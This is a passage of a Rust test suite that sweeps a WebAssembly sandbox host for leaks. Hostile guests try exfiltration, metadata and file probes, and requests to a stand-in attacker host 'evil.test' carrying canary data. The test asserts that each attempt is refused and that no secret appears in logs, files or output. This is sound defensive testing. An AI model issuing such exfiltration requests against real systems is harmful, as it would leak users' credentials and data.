//! The system-wide canary sweep (security catalogue AL-01): every example and hostile guest in
//! `guest-examples/` runs through the real `airlock` binary with canary secrets in every
//! credential it declares, canary customer data in its inputs, config, query strings (names
//! and values), request headers, the path segments of the URLs guests build, and the keys of
//! input and output objects that break their schemas, loopback upstreams whose bodies and
//! headers carry an upstream canary, and canaries (name and value) in the host process's own
//! environment. Afterwards no canary is in the audit trail, `audit list`, the metrics or any file
//! of the data and audit dirs; no secret and no environment canary is in any run's stdout or
//! stderr; and stderr holds no customer data but what a guest logs on purpose and what the
//! caller's own summary and errors show it (its request targets, the instance pointer of a
//! schema violation).
//!
//! No canary goes where the host keeps data by design: kv keys (stored as they are, for
//! listing; values are sealed). A method is kept only when a rule could allow it; any other is
//! recorded as `OTHER`, so a canary method is swept too.

use std::path::Path;
use std::process::Output;
use std::sync::atomic::{AtomicUsize, Ordering};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use tempfile::TempDir;

use crate::audit::{audit, records};
use crate::egress::UPSTREAM_IP;
use crate::operator::Operator;
use crate::support::{
    airlock, airlock_with, audit_dir, dev_switches, example, files_under, stderr, stdout,
};
use airlock_testkit::{Recorded, Reply, TestCa, Upstream};

/// Distinct random canaries, one per place data travels: `canary<place><64 random bits>`, but
/// for the Slack channel id, which must match `^[CGD][A-Z0-9]{2,20}$`.
pub(crate) struct Canaries {
    /// A bearer token given to local runs (`--secret`).
    pub(crate) secret: String,
    /// A bearer token stored for an installation.
    pub(crate) stored: String,
    /// An api-key sent as a header.
    pub(crate) api_key: String,
    /// An api-key sent as a query parameter.
    pub(crate) query_key: String,
    /// A basic-auth password.
    pub(crate) password: String,
    /// An OAuth client and the refresh token stored with it.
    pub(crate) client_id: String,
    pub(crate) client_secret: String,
    pub(crate) refresh_token: String,
    /// The start of every access token the mock authorization servers issue.
    pub(crate) access_token: String,
    /// The start of every refresh token they rotate in.
    pub(crate) rotated: String,
    /// A variable of the `airlock` process's own environment: its name and its value.
    pub(crate) env_name: String,
    pub(crate) env_value: String,
    /// In the query strings of guest requests: a value…
    pub(crate) query: String,
    /// …and a parameter's name.
    pub(crate) param: String,
    /// A path segment of the URLs guests build (a contact's id, a repository owner).
    pub(crate) segment: String,
    /// A key of input and output objects, where the schema refuses it.
    pub(crate) key: String,
    /// In the request headers a guest sets (value, and a header's name).
    pub(crate) header: String,
    /// As the method of a guest request (a token no rule can allow, kept as `OTHER`).
    pub(crate) method: String,
    /// In upstream response bodies and headers.
    pub(crate) upstream: String,
    /// In inputs and config.
    pub(crate) input: String,
    /// Input a guest logs on purpose (a contact id).
    pub(crate) logged: String,
    /// A Slack channel id, which slack-notifier logs.
    pub(crate) channel: String,
}

impl Canaries {
    pub(crate) fn new() -> Self {
        let make = |what: &str| format!("canary{what}{}", random_hex());
        Self {
            secret: make("secret"),
            stored: make("stored"),
            api_key: make("apikey"),
            query_key: make("querykey"),
            password: make("password"),
            client_id: make("clientid"),
            client_secret: make("clientsecret"),
            refresh_token: make("refresh"),
            access_token: make("access"),
            rotated: make("rotated"),
            env_name: make("envname"),
            env_value: make("envvalue"),
            query: make("query"),
            param: make("param"),
            segment: make("segment"),
            key: make("key"),
            header: make("header"),
            method: make("method"),
            upstream: make("upstream"),
            input: make("input"),
            logged: make("logged"),
            channel: format!("C{}", random_hex().to_uppercase()),
        }
    }

    /// What no output of any run may show: the secrets the host holds and its environment.
    pub(crate) fn hidden(&self) -> Vec<(&'static str, &str)> {
        vec![
            ("secret", &self.secret),
            ("stored", &self.stored),
            ("api-key", &self.api_key),
            ("query-key", &self.query_key),
            ("password", &self.password),
            ("client-id", &self.client_id),
            ("client-secret", &self.client_secret),
            ("refresh-token", &self.refresh_token),
            ("access-token", &self.access_token),
            ("rotated-refresh-token", &self.rotated),
            ("env-name", &self.env_name),
            ("env-value", &self.env_value),
        ]
    }

    /// What no stderr may show: all but the input guests log on purpose.
    fn unlogged(&self) -> Vec<(&'static str, &str)> {
        let mut all = self.hidden();
        all.extend([
            ("query", self.query.as_str()),
            ("header", &self.header),
            ("method", &self.method),
            ("upstream", &self.upstream),
            ("input", &self.input),
        ]);
        all
    }

    /// Every canary, named by the place it travels: also the input guests log on purpose, and
    /// what the caller's own summary and errors show it (request targets, schema pointers).
    pub(crate) fn all(&self) -> Vec<(&'static str, &str)> {
        let mut all = self.unlogged();
        all.extend([
            ("logged", self.logged.as_str()),
            ("channel", &self.channel),
            ("param", &self.param),
            ("segment", &self.segment),
            ("key", &self.key),
        ]);
        all
    }

    /// Asserts no canary is in any of `sinks` (named contents).
    pub(crate) fn assert_absent(&self, sinks: &[(String, Vec<u8>)]) {
        for (place, canary) in self.all() {
            for (sink, bytes) in sinks {
                assert!(
                    !contains(bytes, canary),
                    "the {place} canary reached {sink}"
                );
            }
        }
    }
}

/// 64 random bits as hex (std's per-process random hash keys; no extra dependency).
fn random_hex() -> String {
    use std::hash::{BuildHasher, RandomState};
    format!(
        "{:016x}",
        RandomState::new().hash_one(std::time::SystemTime::now())
    )
}

pub(crate) fn contains(haystack: &[u8], needle: &str) -> bool {
    haystack
        .windows(needle.len())
        .any(|window| window == needle.as_bytes())
}

/// Every place of `data` a canary must never reach: the exported trail, `audit list` (plain
/// and `--json`), `audit verify` (which must pass), the metrics, and every file of the data
/// dir and the audit dir.
pub(crate) fn sinks(data: &Path) -> Vec<(String, Vec<u8>)> {
    let mut sinks: Vec<(String, Vec<u8>)> = vec![
        (
            "audit export".into(),
            audit(data, &["export"], 0).into_bytes(),
        ),
        ("audit list".into(), audit(data, &["list"], 0).into_bytes()),
        (
            "audit list --json".into(),
            audit(data, &["list", "--json"], 0).into_bytes(),
        ),
        (
            "audit verify".into(),
            audit(data, &["verify"], 0).into_bytes(),
        ),
    ];
    let metrics = airlock(data, &["metrics"]);
    assert_eq!(metrics.status.code(), Some(0), "{}", stderr(&metrics));
    sinks.push(("metrics".into(), metrics.stdout));
    for file in files_under(data)
        .into_iter()
        .chain(files_under(&audit_dir()))
    {
        let bytes = std::fs::read(&file).expect("file reads");
        sinks.push((file.display().to_string(), bytes));
    }
    sinks
}

/// The hosts the mock answers for, each pinned to it with `--resolve`: exfil's, and the stand-ins
/// for GitHub and Slack (their APIs and Slack's token endpoint).
const HOSTS: [&str; 10] = [
    "api.allowed.test",
    "echo.allowed.test",
    "vault.allowed.test",
    "keyed.allowed.test",
    "query.allowed.test",
    "basic.allowed.test",
    "oauth.allowed.test",
    "auth.allowed.test",
    "api.github.com",
    "slack.com",
];

/// A channel the mock Slack answers `channel_not_found` for.
const GONE_CHANNEL: &str = "C0GONE";

/// The mock's answers, each carrying the upstream canary in a header and in its body:
/// authorization servers issuing `<access canary>-<n>` tokens (and, for
/// Slack, rotating in `<rotated canary>-<n>` refresh tokens), Slack, GitHub (two pages of issues,
/// the second linked with the canary in its query; a created issue; 404 for other repositories),
/// a redirect to the credentialed vault, and an echo of the request everywhere else.
fn answers(c: &Canaries) -> impl Fn(&Recorded) -> Reply + Send + Sync + 'static {
    let upstream = c.upstream.clone();
    let access = c.access_token.clone();
    let rotated = c.rotated.clone();
    let issued = AtomicUsize::new(0);
    move |request| {
        let host = request.header("host").join("");
        let host = host.split(':').next().unwrap_or_default();
        let path = request.path_and_query.as_str();
        let issue = |number: u64, title: &str| {
            let url = format!("https://github.com/acme/widgets/issues/{number}#{upstream}");
            json!({"number": number, "title": format!("{title} {upstream}"), "html_url": url})
        };
        let response = match (host, path) {
            (_, "/oauth/token") => {
                let n = issued.fetch_add(1, Ordering::SeqCst);
                Reply::json(
                    200,
                    json!({"access_token": format!("{access}-{n}"), "token_type": "Bearer",
                           "expires_in": 3600, "note": upstream}),
                )
            }
            (_, "/api/oauth.v2.access") => {
                let n = issued.fetch_add(1, Ordering::SeqCst);
                Reply::json(
                    200,
                    json!({"ok": true, "access_token": format!("{access}-{n}"),
                           "token_type": "bot", "expires_in": 43200,
                           "refresh_token": format!("{rotated}-{n}"), "scope": "chat:write",
                           "note": upstream}),
                )
            }
            (_, "/api/chat.postMessage") if contains(&request.body, GONE_CHANNEL) => Reply::json(
                200,
                json!({"ok": false, "error": "channel_not_found", "detail": upstream}),
            ),
            (_, "/api/chat.postMessage") => Reply::json(
                200,
                json!({"ok": true, "ts": "1700000000.000100", "message": {"text": upstream}}),
            ),
            ("api.github.com", "/repos/acme/widgets/issues") if request.method == "POST" => {
                Reply::json(201, issue(7, "created"))
            }
            ("api.github.com", p) if p.starts_with("/repos/acme/widgets/issues?") => {
                let pr = json!({"number": 3, "title": "a PR", "pull_request": {},
                                "html_url": "https://github.com/acme/widgets/pull/3"});
                let next = format!(
                    "<https://api.github.com/repositories/42/issues?state=open&page=2\
                     &after={upstream}>; rel=\"next\""
                );
                Reply::json(200, json!([issue(1, "first"), pr])).header("link", &next)
            }
            ("api.github.com", p) if p.starts_with("/repositories/42/issues?") => {
                Reply::json(200, json!([issue(2, "second")]))
            }
            ("api.github.com", _) => {
                Reply::json(404, json!({"message": format!("Not Found {upstream}")}))
            }
            (_, p) if p.starts_with("/redirect") => Reply::redirect(
                302,
                &format!("https://vault.allowed.test/landing?u={upstream}"),
            ),
            _ => Reply::json(
                200,
                json!({"method": request.method, "path": request.path_and_query,
                       "headers": request.headers, "upstream": upstream}),
            ),
        };
        response.header("x-upstream", &upstream)
    }
}

/// Environment variables of every run: the credential values local runs name with `--secret`,
/// and the environment canary.
const TOKEN_VAR: &str = "AIRLOCK_CANARY_TOKEN";
const KEY_VAR: &str = "AIRLOCK_CANARY_KEY";
const QUERY_KEY_VAR: &str = "AIRLOCK_CANARY_QUERY_KEY";
const LOGIN_VAR: &str = "AIRLOCK_CANARY_LOGIN";
const OAUTH_VAR: &str = "AIRLOCK_CANARY_OAUTH";
/// The user of the basic credential, which is not secret (the password is).
const BASIC_USER: &str = "svc";

/// One `airlock run`.
struct Run {
    what: String,
    out: Output,
    /// It got past loading (any exit but 2), so the trail must hold its invocation.
    invoked: bool,
    /// The requests the mock received while it ran.
    seen: Vec<Recorded>,
    /// Its `--json` summary; every other run prints the human one, with its egress lines.
    summary: Option<Value>,
}

impl Run {
    /// The action's output: stdout, or with `--json` its `output` member.
    fn output(&self) -> Value {
        let stdout: Value = serde_json::from_str(&stdout(&self.out)).unwrap_or_else(|e| {
            panic!("{}: output is JSON ({e}): {}", self.what, stdout(&self.out))
        });
        match self.summary {
            Some(_) => stdout["output"].clone(),
            None => stdout,
        }
    }

    /// The `authorization` header of the `n`th request it made.
    fn authorization(&self, n: usize) -> String {
        self.seen[n].header("authorization").join(", ")
    }
}

/// The runs of the sweep, on one operator's data dir, against one mock.
struct Sweep {
    op: Operator,
    mock: Upstream,
    switches: Vec<String>,
    env: Vec<(String, String)>,
    runs: Vec<Run>,
    _ca_dir: TempDir,
}

impl Sweep {
    fn new(c: &Canaries) -> Self {
        let ca = TestCa::new().expect("test CA");
        let mock = Upstream::start(&ca, &HOSTS, UPSTREAM_IP, answers(c)).expect("upstream starts");
        let ca_dir = TempDir::new().expect("temp dir");
        let pins: Vec<String> = HOSTS
            .iter()
            .map(|host| format!("{host}={}", mock.addr()))
            .collect();
        let switches = dev_switches(&pins, &ca.write_pem(ca_dir.path()).expect("CA written"));
        let env = [
            (TOKEN_VAR, c.secret.clone()),
            (KEY_VAR, c.api_key.clone()),
            (QUERY_KEY_VAR, c.query_key.clone()),
            (LOGIN_VAR, format!("{BASIC_USER}:{}", c.password)),
            (OAUTH_VAR, oauth_client(c)),
            (c.env_name.as_str(), c.env_value.clone()),
        ];
        Self {
            op: Operator::new(),
            mock,
            switches,
            env: env.map(|(k, v)| (k.to_string(), v)).to_vec(),
            runs: Vec::new(),
            _ca_dir: ca_dir,
        }
    }

    /// `airlock run ARGS… DEV-SWITCHES…` in the canary environment (with `--json` every other
    /// run); asserts it exits `code`.
    fn run(&mut self, what: String, args: Vec<String>, code: i32) -> &Run {
        let json = self.runs.len().is_multiple_of(2);
        let before = self.mock.requests().len();
        let mut argv = vec!["run".to_string()];
        argv.extend(args);
        argv.extend(self.switches.iter().cloned());
        if json {
            argv.push("--json".into());
        }
        let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
        let env: Vec<(&str, &str)> = self
            .env
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect();
        let out = airlock_with(self.op.data(), &argv, "", &env);
        assert_eq!(
            out.status.code(),
            Some(code),
            "{what}\n{}\n{}",
            stdout(&out),
            stderr(&out)
        );
        let seen = self.mock.requests().split_off(before);
        let summary = json
            .then(|| serde_json::from_str::<Value>(&stdout(&out)).ok())
            .flatten()
            .map(|document| document["summary"].clone());
        let invoked = code != 2;
        assert_eq!(
            summary.is_some(),
            json && invoked,
            "{what}: {}",
            stderr(&out)
        );
        if let Some(summary) = &summary {
            assert_eq!(summary["exit_code"], code, "{what}: {summary}");
        }
        self.runs.push(Run {
            what,
            invoked,
            out,
            seen,
            summary,
        });
        self.runs.last().expect("just pushed")
    }

    /// Runs `action` of the unsigned example `name` on `input`, with `extra` arguments.
    fn local(
        &mut self,
        name: &str,
        action: &str,
        input: Value,
        extra: &[String],
        code: i32,
    ) -> &Run {
        let mut args = vec![
            "--allow-unsigned".to_string(),
            example(name).display().to_string(),
            "--action".into(),
            action.into(),
            "--input".into(),
            input.to_string(),
        ];
        args.extend_from_slice(extra);
        self.run(format!("{name} {action} {input}"), args, code)
    }

    /// Runs `action` of acme's installation `installation` on `input`.
    fn installed(&mut self, installation: &str, action: &str, input: Value, code: i32) -> &Run {
        let args = [
            "--tenant",
            "acme",
            "--installation",
            installation,
            "--action",
            action,
            "--input",
            &input.to_string(),
        ]
        .map(String::from)
        .to_vec();
        self.run(format!("acme/{installation} {action} {input}"), args, code)
    }
}

/// An oauth2 credential's value: the canary client and its refresh token.
fn oauth_client(c: &Canaries) -> String {
    json!({"client_id": c.client_id, "client_secret": c.client_secret,
           "refresh_token": c.refresh_token})
    .to_string()
}

/// `Authorization: Basic` of `user:password`.
fn basic(user: &str, password: &str) -> String {
    format!("Basic {}", STANDARD.encode(format!("{user}:{password}")))
}

/// The outcomes of an exfil report's attempts.
fn outcomes(report: &Value) -> Vec<String> {
    report["attempts"]
        .as_array()
        .expect("a report lists its attempts")
        .iter()
        .map(|a| a["outcome"].as_str().expect("an outcome").to_string())
        .collect()
}

/// `--secret NAME=env:VAR` for each (credential, variable).
fn secrets(pairs: &[(&str, &str)]) -> Vec<String> {
    pairs
        .iter()
        .flat_map(|(name, var)| ["--secret".to_string(), format!("{name}=env:{var}")])
        .collect()
}

fn contact_mapper(s: &mut Sweep, c: &Canaries) {
    let config = json!({"default_country_code": "44", "tag_prefix": c.input}).to_string();
    let config = ["--config".to_string(), config];
    let contact = json!({"Id": c.logged, "FirstName": c.input, "LastName": "Lovelace",
                         "Email": format!("{}@example.com", c.input), "Company": c.input,
                         "Tags": [c.input]});
    let run = s.local("contact-mapper", "map-contact", contact, &config, 0);
    assert_eq!(run.output()["company"], c.input);
    assert!(
        stderr(&run.out).contains(&format!("external_id={}", c.logged)),
        "the mapper logs the contact id (why that canary may be on stderr): {}",
        stderr(&run.out)
    );
    let rejected = json!({"Id": c.input, "Email": 42, "Company": c.input});
    s.local("contact-mapper", "map-contact", rejected, &config, 3);
    // A key the schema does not allow.
    let keyed = json!({"Id": c.logged, "Email": "ada@example.com", c.key.as_str(): c.input});
    s.local("contact-mapper", "map-contact", keyed, &config, 3);
    let unmappable = json!({"Id": c.logged, "FirstName": c.input, "Company": c.input});
    s.local("contact-mapper", "map-contact", unmappable, &config, 4);
}

fn exfil(s: &mut Sweep, c: &Canaries) {
    // A canary for each of its five credentials.
    let flags = secrets(&[
        ("token", TOKEN_VAR),
        ("key", KEY_VAR),
        ("query-key", QUERY_KEY_VAR),
        ("login", LOGIN_VAR),
        ("service", OAUTH_VAR),
    ]);
    // Probes the policy refuses before anything leaves.
    for action in [
        "undeclared-host",
        "ip-literals",
        "metadata",
        "userinfo",
        "plain-http",
    ] {
        let run = s.local("exfil", action, json!({}), &flags, 0);
        assert!(run.seen.is_empty(), "{}: {:?}", run.what, run.seen);
        let outcomes = outcomes(&run.output());
        assert!(
            !outcomes.is_empty() && outcomes.iter().all(|o| !o.starts_with("ok")),
            "{}: {outcomes:?}",
            run.what
        );
    }
    let run = s.local("exfil", "flood-denied", json!({"count": 300}), &flags, 0);
    assert!(run.seen.is_empty());

    // A redirect the guest follows itself, to the vault, which gets the token.
    let redirect = json!({"url": format!("https://api.allowed.test/redirect?q={}", c.query)});
    let run = s.local("exfil", "follow-redirect", redirect, &flags, 0);
    assert_eq!(run.seen.len(), 2, "{:?}", run.seen);
    assert_eq!(
        run.seen[0].path_and_query,
        format!("/redirect?q={}", c.query)
    );
    assert_eq!(
        run.seen[1].path_and_query,
        format!("/landing?u={}", c.upstream)
    );
    assert_eq!(run.authorization(1), format!("Bearer {}", c.secret));
    assert_eq!(outcomes(&run.output()), ["ok 302", "ok 200"]);

    // Its own Authorization and Cookie headers: each request that went out is one the mock saw.
    let run = s.local("exfil", "set-authorization", json!({}), &flags, 0);
    let sent = outcomes(&run.output())
        .iter()
        .filter(|o| o.starts_with("ok"))
        .count();
    assert_eq!(run.seen.len(), sent, "{:?}", run.seen);

    let run = s.local("exfil", "read-echo", json!({}), &flags, 0);
    assert_eq!(run.seen.len(), 1);
    assert!(
        run.output()["body"]
            .as_str()
            .is_some_and(|b| b.contains(&c.upstream))
    );

    // One fetch per credentialed host (and one without): each echoes the injected credential,
    // the query and the header back, and the host scrubs the credential from the echo.
    let fetch = |url: &str, method: &str| {
        let headers = [["x-note", &c.header], [&format!("x-{}", c.header), "1"]];
        json!({"url": url, "method": method, "headers": headers})
    };
    let q = &c.query;
    let plain = [
        ("vault", "POST", format!("Bearer {}", c.secret)),
        ("basic", "GET", basic(BASIC_USER, &c.password)),
        ("api", "POST", String::new()),
    ];
    for (host, method, authorization) in plain {
        let input = fetch(&format!("https://{host}.allowed.test/items?q={q}"), method);
        let run = s.local("exfil", "fetch", input, &flags, 0);
        assert_eq!(run.seen.len(), 1, "{}", run.what);
        assert_eq!(run.authorization(0), authorization, "{}", run.what);
        assert_eq!(run.seen[0].path_and_query, format!("/items?q={q}"));
        assert_eq!(run.seen[0].header("x-note"), [c.header.as_str()]);
        assert_eq!(run.seen[0].header(&format!("x-{}", c.header)), ["1"]);
        let report = run.output();
        assert_eq!(outcomes(&report), ["ok 200"], "{}", run.what);
        assert!(
            report["body"]
                .as_str()
                .is_some_and(|b| b.contains(&c.header))
        );
    }
    let input = fetch(&format!("https://keyed.allowed.test/items?q={q}"), "GET");
    let run = s.local("exfil", "fetch", input, &flags, 0);
    assert_eq!(run.seen.len(), 1);
    assert_eq!(run.seen[0].header("x-api-key"), [c.api_key.as_str()]);
    let input = fetch(&format!("https://query.allowed.test/items?q={q}"), "GET");
    let run = s.local("exfil", "fetch", input, &flags, 0);
    assert_eq!(run.seen.len(), 1);
    assert!(
        run.seen[0]
            .path_and_query
            .contains(&format!("api_key={}", c.query_key)),
        "{:?}",
        run.seen
    );
    let input = fetch(&format!("https://oauth.allowed.test/items?q={q}"), "GET");
    let run = s.local("exfil", "fetch", input, &flags, 0);
    assert_eq!(run.seen.len(), 2, "a token call, then the request");
    assert_eq!(run.seen[0].path_and_query, "/oauth/token");
    assert_eq!(run.authorization(0), basic(&c.client_id, &c.client_secret));
    assert!(
        run.authorization(1)
            .starts_with(&format!("Bearer {}-", c.access_token)),
        "{:?}",
        run.seen
    );
    // Paths built from customer data, with a parameter named by it, to hosts with and without
    // a credential; the upstream sees them, the trail keeps only the rule and a keyed hash.
    let (segment, param) = (&c.segment, &c.param);
    for host in ["api", "vault"] {
        let path = format!("/contacts/{segment}/notes/{segment}");
        let url = format!("https://{host}.allowed.test{path}?{param}={q}");
        let run = s.local("exfil", "fetch", fetch(&url, "GET"), &flags, 0);
        assert_eq!(run.seen.len(), 1, "{}", run.what);
        assert_eq!(run.seen[0].path_and_query, format!("{path}?{param}={q}"));
        assert_eq!(outcomes(&run.output()), ["ok 200"], "{}", run.what);
    }
    // Refused: a host no rule allows.
    let input = fetch(&format!("https://evil.test/items?q={q}"), "GET");
    let run = s.local("exfil", "fetch", input, &flags, 0);
    assert!(run.seen.is_empty());
    assert_eq!(outcomes(&run.output()), ["HttpRequestDenied"]);
    let input = fetch(&format!("https://evil.test/{segment}?{param}=1"), "GET");
    let run = s.local("exfil", "fetch", input, &flags, 0);
    assert!(run.seen.is_empty());
    // Refused: a method of the guest's own making, to an allowed host.
    let input = fetch("https://api.allowed.test/items", &c.method);
    let run = s.local("exfil", "fetch", input, &flags, 0);
    assert!(run.seen.is_empty());
    assert_eq!(outcomes(&run.output()), ["HttpRequestDenied"]);
}

/// github-issues' grant: everything its manifest declares.
const GITHUB_GRANT: &str = "[[egress]]\nurl = \"https://api.github.com/repos\"\n\
    methods = [\"GET\", \"POST\"]\n\n[[egress]]\nurl = \"https://api.github.com/repositories\"\n\
    methods = [\"GET\"]\n";
const SLACK_GRANT: &str =
    "[[egress]]\nurl = \"https://slack.com/api/chat.postMessage\"\nmethods = [\"POST\"]\n";

/// Asserts `run` listed acme/widgets' two pages of open issues with `token`.
fn listed(run: &Run, token: &str) {
    assert_eq!(run.seen.len(), 2, "{}: {:?}", run.what, run.seen);
    assert!(
        run.seen[1]
            .path_and_query
            .starts_with("/repositories/42/issues?")
    );
    for n in 0..2 {
        assert_eq!(run.authorization(n), format!("Bearer {token}"));
    }
    let list = run.output();
    assert_eq!(list["pages"], 2, "{list}");
    assert_eq!(list["issues"].as_array().map(Vec::len), Some(2), "{list}");
}

fn github_issues(s: &mut Sweep, c: &Canaries) {
    let secret = secrets(&[("github", TOKEN_VAR)]);
    let list = json!({"owner": "acme", "repo": "widgets", "per-page": 2});
    let run = s.local("github-issues", "list-open", list.clone(), &secret, 0);
    listed(run, &c.secret);
    let issue = json!({"owner": "acme", "repo": "widgets", "title": c.input,
                       "body": format!("seen with {}", c.input)});
    let run = s.local("github-issues", "create", issue, &secret, 0);
    assert_eq!(run.seen.len(), 1);
    assert_eq!(run.seen[0].method, "POST");
    assert!(contains(&run.seen[0].body, &c.input));
    assert_eq!(run.authorization(0), format!("Bearer {}", c.secret));
    assert_eq!(run.output()["number"], 7);
    let missing = json!({"owner": "acme", "repo": "missing"});
    let run = s.local("github-issues", "list-open", missing, &secret, 4);
    assert_eq!(run.seen.len(), 1);
    // An owner that is customer data goes into the path.
    let theirs = json!({"owner": c.segment, "repo": "widgets"});
    let run = s.local("github-issues", "list-open", theirs.clone(), &secret, 4);
    assert_eq!(run.seen.len(), 1);
    assert!(
        run.seen[0]
            .path_and_query
            .starts_with(&format!("/repos/{}/widgets/issues?", c.segment))
    );

    // Installed, with the token stored (sealed) for acme.
    let bundle = s.op.example("github-issues", "github_issues.wasm");
    s.op.install_granted(&bundle, GITHUB_GRANT);
    let set =
        s.op.set_credential("acme", "github-issues", "github", &c.stored);
    assert_eq!(set.status.code(), Some(0), "{}", stderr(&set));
    let run = s.installed("github-issues", "list-open", list, 0);
    listed(run, &c.stored);
    let run = s.installed("github-issues", "list-open", theirs, 4);
    assert_eq!(run.seen.len(), 1);
}

/// Asserts `run` refreshed with `refresh` (a form value) and posted with an issued token.
fn posted(run: &Run, c: &Canaries, refresh: &str) {
    assert_eq!(run.seen.len(), 2, "{}: {:?}", run.what, run.seen);
    assert_eq!(run.seen[0].path_and_query, "/api/oauth.v2.access");
    assert!(
        contains(&run.seen[0].body, &format!("refresh_token={refresh}")),
        "{}: {}",
        run.what,
        String::from_utf8_lossy(&run.seen[0].body)
    );
    assert_eq!(run.authorization(0), basic(&c.client_id, &c.client_secret));
    assert_eq!(run.seen[1].path_and_query, "/api/chat.postMessage");
    assert!(
        run.authorization(1)
            .starts_with(&format!("Bearer {}-", c.access_token))
    );
    assert!(contains(&run.seen[1].body, &c.input));
}

fn slack_notifier(s: &mut Sweep, c: &Canaries) {
    let secret = secrets(&[("slack", OAUTH_VAR)]);
    let alert = json!({"channel": c.channel, "text": c.input, "severity": "critical"});
    let run = s.local("slack-notifier", "post-alert", alert.clone(), &secret, 0);
    posted(run, c, &c.refresh_token);
    assert_eq!(run.output()["ts"], "1700000000.000100");
    assert!(
        stderr(&run.out).contains(&format!("channel={}", c.channel)),
        "the notifier logs the channel (why that canary may be on stderr)"
    );
    let gone = json!({"channel": GONE_CHANNEL, "text": c.input});
    let run = s.local("slack-notifier", "post-alert", gone, &secret, 4);
    posted(run, c, &c.refresh_token);

    // Installed, with the client and refresh token stored: the rotated refresh token the first
    // run gets is stored (sealed) and is what the second run refreshes with.
    let bundle = s.op.example("slack-notifier", "slack_notifier.wasm");
    s.op.install_granted(&bundle, SLACK_GRANT);
    let set =
        s.op.set_credential("acme", "slack-notifier", "slack", &oauth_client(c));
    assert_eq!(set.status.code(), Some(0), "{}", stderr(&set));
    let run = s.installed("slack-notifier", "post-alert", alert.clone(), 0);
    posted(run, c, &c.refresh_token);
    let run = s.installed("slack-notifier", "post-alert", alert, 0);
    posted(run, c, &format!("{}-", c.rotated));
}

fn hostile(s: &mut Sweep, c: &Canaries) {
    for action in [
        "spin-forever",
        "grow-memory",
        "recurse-forever",
        "huge-output",
    ] {
        s.local("hostile", action, json!({}), &[], 5);
    }
    let run = s.local("hostile", "flood-log", json!({}), &[], 0);
    assert!(stderr(&run.out).contains("dropped"));
    let run = s.local("hostile", "read-env", json!({}), &[], 0);
    assert_eq!(run.output(), json!({"vars": [], "args": []}));
    let run = s.local("hostile", "read-files", json!({}), &[], 0);
    assert_eq!(run.output()["read"], json!([]));
    // The value is kept (sealed) between runs; keys are kept as they are, so none is a canary.
    let set = json!({"op": "set", "key": "cursor", "value": c.input});
    assert_eq!(s.local("hostile", "kv", set, &[], 0).output(), json!({}));
    let get = json!({"op": "get", "key": "cursor"});
    let run = s.local("hostile", "kv", get, &[], 0);
    assert_eq!(run.output(), json!({"found": true, "value": c.input}));
    let list = json!({"op": "list", "prefix": ""});
    let run = s.local("hostile", "kv", list, &[], 0);
    assert_eq!(run.output(), json!({"keys": ["cursor"]}));
    let run = s.local("hostile", "kv-fill", json!({}), &[], 0);
    assert!(
        run.output()["error"]
            .as_str()
            .is_some_and(|e| e.starts_with("quota-exceeded"))
    );
    // Input and output objects keyed by the caller's data, which their schemas refuse at
    // that key: the caller's error says where, the trail only which keyword of the schema.
    let keyed = json!({"ok": "x", c.key.as_str(): c.input});
    let wrong = json!({"ok": "x", c.key.as_str(): 1});
    for (input, direction) in [(wrong, "input"), (keyed, "output")] {
        let run = s.local("hostile", "bad-output", input, &[], 3);
        let shown = stderr(&run.out);
        assert!(
            shown.contains(&format!("{direction} does not match")),
            "{shown}"
        );
        assert!(shown.contains(&format!("/{}", c.key)), "{shown}");
    }
    // Refused at load (it imports wasi:sockets): exit 2, before any input is read.
    let connect = json!({"address": c.input});
    let run = s.local("hostile-sockets", "connect", connect, &[], 2);
    assert!(
        stderr(&run.out).contains("wasi:sockets"),
        "{}",
        stderr(&run.out)
    );
}

#[test]
fn every_guest_leaves_no_canary_behind() {
    let c = Canaries::new();
    let mut s = Sweep::new(&c);
    contact_mapper(&mut s, &c);
    exfil(&mut s, &c);
    github_issues(&mut s, &c);
    slack_notifier(&mut s, &c);
    hostile(&mut s, &c);

    // The trail holds one invocation record per run that got past loading (all but
    // hostile-sockets), each `--json` run's own among them, and the metrics count them.
    let kept = records(s.op.data());
    let invocations: Vec<&Value> = kept.iter().filter(|r| r["type"] == "invocation").collect();
    let invoked = s.runs.iter().filter(|run| run.invoked).count();
    assert_eq!(invoked, s.runs.len() - 1);
    assert_eq!(invocations.len(), invoked);
    for run in &s.runs {
        if let Some(summary) = &run.summary {
            let id = &summary["invocation"];
            let matching = invocations
                .iter()
                .filter(|r| r["invocation"] == *id)
                .count();
            assert_eq!(matching, 1, "{}: {summary}", run.what);
        }
    }
    assert!(
        invocations
            .iter()
            .any(|r| r["redactions"].as_u64() > Some(0)),
        "an echoed credential was scrubbed"
    );
    // Schema failures are located in the schema; requests by their rule and a keyed hash.
    let failed: Vec<(&str, &str)> = invocations
        .iter()
        .filter_map(|r| {
            let v = &r["validation"];
            Some((v["direction"].as_str()?, v["location"].as_str()?))
        })
        .collect();
    for expected in [
        ("input", "/additionalProperties"),
        ("input", "/additionalProperties/type"),
        ("output", "/additionalProperties/type"),
    ] {
        assert!(failed.contains(&expected), "{expected:?} in {failed:?}");
    }
    let intents: Vec<&Value> = kept
        .iter()
        .filter(|r| r["type"] == "egress-intent")
        .collect();
    let egress = invocations
        .iter()
        .filter_map(|r| r["egress"].as_array())
        .flatten();
    let mut targets = 0;
    for event in egress.chain(intents.iter().copied()) {
        assert!(event.get("target").is_none(), "{event}");
        if event.get("target_hash").is_some() {
            assert!(
                event["via"]
                    .as_str()
                    .is_some_and(|v| v.starts_with("https://"))
            );
            targets += 1;
        }
    }
    // Each intent has its hash, and so does the attempt its invocation recorded.
    assert!(
        !intents.is_empty() && targets >= 2 * intents.len(),
        "{targets} hashes, {} intents",
        intents.len()
    );
    let metrics = stdout(&airlock(s.op.data(), &["metrics"]));
    let counted: u64 = metrics
        .lines()
        .filter(|l| l.starts_with("airlock_invocations_total{"))
        .filter_map(|l| l.rsplit(' ').next()?.parse::<u64>().ok())
        .sum();
    assert_eq!(counted, invoked as u64, "{metrics}");

    c.assert_absent(&sinks(s.op.data()));
    // Secrets and the environment reach no output of any run; customer data reaches stderr
    // (guest log, egress lines, summary) only where a guest logs it on purpose.
    for run in &s.runs {
        for (place, canary) in c.hidden() {
            assert!(
                !contains(&run.out.stdout, canary),
                "the {place} canary reached the stdout of {}",
                run.what
            );
        }
        let summary = run
            .summary
            .as_ref()
